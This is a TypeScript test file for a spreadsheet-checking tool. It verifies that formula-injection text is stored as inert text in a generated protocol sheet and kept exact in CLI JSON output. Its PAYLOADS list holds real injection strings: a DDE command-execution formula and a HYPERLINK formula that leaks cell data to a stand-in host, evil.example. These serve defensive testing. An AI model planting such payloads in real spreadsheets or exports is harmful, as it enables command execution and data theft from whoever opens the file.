// Issue 5 §3, formula injection: text that starts with =, +, -, @, tab or CR must never become a formula
// where it lands in a spreadsheet.
// - The Prüfprotokoll sheet (the adapter's writeProtocol) is the one writer into a workbook: for random
//   findings, settings and versions full of such text, the sheet holds no formula and every text
//   exactly as given (nothing lost). The fake Excel enters values as typing would ("=…", "+…", "-…",
//   "@…" become formulas), so a missing text prefix shows up here.
// - The end-to-end path: a workbook whose texts are formulas-in-waiting, checked from xlsx (CLI) and in
//   the fake Excel, protocol written.
// - The CLI's JSON is data, not a spreadsheet: values are kept exactly (a ' prefix would corrupt them for
//   every program reading the JSON), JSON escapes tab and CR, and a spreadsheet importing JSON (Power
//   Query) types values as text, never as formulas. So JSON is not neutralised; the test pins that the
//   text comes back unchanged and no raw tab/CR reaches the output.
// - There is no CSV export; the last test fails when one appears, to make sure it uses neutraliseFormulaText.
import fs from "node:fs";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import fc from "fast-check";
import { main } from "../../src/cli/main";
import { check } from "../../src/core/engine";
import { buildExample2024 } from "../../src/core/example";
import type { Finding } from "../../src/core/finding";
import { startsLikeFormula } from "../../src/core/neutralise";
import type { WorkbookModel } from "../../src/core/workbookModel";
import { hostOverFake } from "../../src/excel/demoHost";
import { fakeExcel } from "../../src/excel/fake";
import { PROTOCOL_SHEET } from "../../src/excel/officeHost";
import { writeWorkbookFile } from "../../src/xlsx/writeWorkbook";

const TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
  "+49 3628 123",
  "-1",
  "-2,5 %",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=",
  "1/2",
  "TRUE",
  "#N/A",
  "'quoted",
];

/** Text that Excel would turn into something else: formula triggers first, and lookalikes of numbers, booleans, errors. */
const hostileText = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.tuple(fc.constantFrom(...TRIGGERS), fc.string({ maxLength: 15 })).map(([t, s]) => t + s),
  fc.string({ maxLength: 15 }),
);

const finding: fc.Arbitrary<Finding> = fc.record({
  rule: hostileText,
  severity: fc.constantFrom("error" as const, "warning" as const, "info" as const),
  messageId: fc.constant("befund"),
  data: fc.constant({}),
  message: hostileText,
  names: fc.array(hostileText, { maxLength: 2 }),
  cells: fc.array(hostileText, { maxLength: 2 }),
});

const protocolOf = (model: WorkbookModel) => model.sheets.find((s) => s.name === PROTOCOL_SHEET)!;

test("the Prüfprotokoll holds hostile text as text, exactly, and no formula — for random findings, settings and versions", async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(finding, { minLength: 1, maxLength: 6 }), hostileText, hostileText, async (findings, version, setting) => {
      const fake = fakeExcel(buildExample2024());
      await hostOverFake(fake, version).writeProtocol({ at: new Date(2026, 10, 26, 18, 3), version, settings: { notiz: setting }, findings, lang: "de" });
      const cells = protocolOf(fake.model).cells;
      expect(Object.entries(cells).filter(([, c]) => c.formula)).toEqual([]);
      const text = (a1: string) => cells[a1]?.value ?? "";
      expect(text("B4")).toBe(version);
      expect(text("B5")).toBe(JSON.stringify({ notiz: setting }));
      findings.forEach((f, i) => {
        const row = 12 + i;
        expect([text(`B${row}`), text(`C${row}`), text(`D${row}`), text(`E${row}`)]).toEqual([f.rule, f.message, f.names.join(", "), f.cells.join(", ")]);
      });
    }),
    { numRuns: 60 },
  );
});

/** The example with formulas-in-waiting where a controller types text: Jobcenter, instrument names, a Begründung. */
function hostileExample(): WorkbookModel {
  const model = buildExample2024();
  const cells = (name: string) => model.sheets.find((s) => s.name === name)!.cells;
  cells("Haushalt").B3 = { value: PAYLOADS[0] };
  cells("Förderung").A10 = { value: PAYLOADS[1] }; // GaBe's row: its large change without Begründung quotes the name
  cells("Förderung").E5 = { value: PAYLOADS[5] };
  cells("Haushalt").B10 = { value: "-1.606.442" }; // a number typed as text that starts with "-"
  return model;
}

test("end to end: hostile workbook texts reach findings, and the Prüfprotokoll keeps them as text", async () => {
  const fake = fakeExcel(hostileExample());
  const host = hostOverFake(fake, "test");
  const findings = check(await host.readSnapshot());
  const quoting = findings.filter((f) => f.message.includes(PAYLOADS[1]) || f.message.includes("-1.606.442"));
  expect(quoting.length).toBeGreaterThanOrEqual(2);
  await host.writeProtocol({ at: new Date(), version: "test", settings: {}, findings, lang: "de" });
  const cells = protocolOf(fake.model).cells;
  expect(Object.values(cells).filter((c) => c.formula)).toEqual([]);
  const values = Object.values(cells).map((c) => c.value);
  for (const f of findings) expect(values).toContain(f.message);
});

test("CLI JSON keeps hostile text exactly (data, not neutralised) and carries no raw tab or CR", async () => {
  const dir = mkdtempSync(path.join(tmpdir(), "aip-inject-"));
  const model = hostileExample();
  model.sheets.find((s) => s.name === "Förderung")!.cells.A11 = { value: "\t=1+1" }; // Arbeitsgelegenheiten renamed
  const file = path.join(dir, "feindlich.xlsx");
  await writeWorkbookFile(model, file);
  let stdout = "";
  const code = await main(["check", file, "--format", "json"], { stdout: { write: (t: string) => (stdout += t) }, stderr: { write: () => true }, env: {}, cwd: dir });
  rmSync(dir, { recursive: true, force: true });
  expect(code).toBe(1);
  expect(stdout).not.toMatch(/[\t\r]/);
  const messages = (JSON.parse(stdout) as { files: Array<{ findings: Finding[] }> }).files[0].findings.map((f) => f.message);
  expect(messages.some((m) => m.includes(PAYLOADS[1]))).toBe(true);
  expect(messages.some((m) => m.includes("-1.606.442"))).toBe(true);
  // Each message starts with a name or a label, never with a cell's text: nothing a spreadsheet would run.
  for (const m of messages) expect(startsLikeFormula(m)).toBe(false);
});

test("there is no CSV export (one added later must neutralise with neutraliseFormulaText and get a test here)", () => {
  const root = path.resolve(__dirname, "../../src");
  const files = fs.readdirSync(root, { recursive: true, withFileTypes: true }).filter((e) => e.isFile() && /\.tsx?$/.test(e.name));
  const csvWriters = files
    .map((e) => path.join(e.parentPath, e.name))
    .filter((f) => /text\/csv|\.csv\b|toCsv|csvLine/i.test(fs.readFileSync(f, "utf8")))
    .filter((f) => !f.endsWith(path.join("core", "neutralise.ts")))
    .map((f) => path.relative(root, f));
  expect(csvWriters).toEqual([]);
});
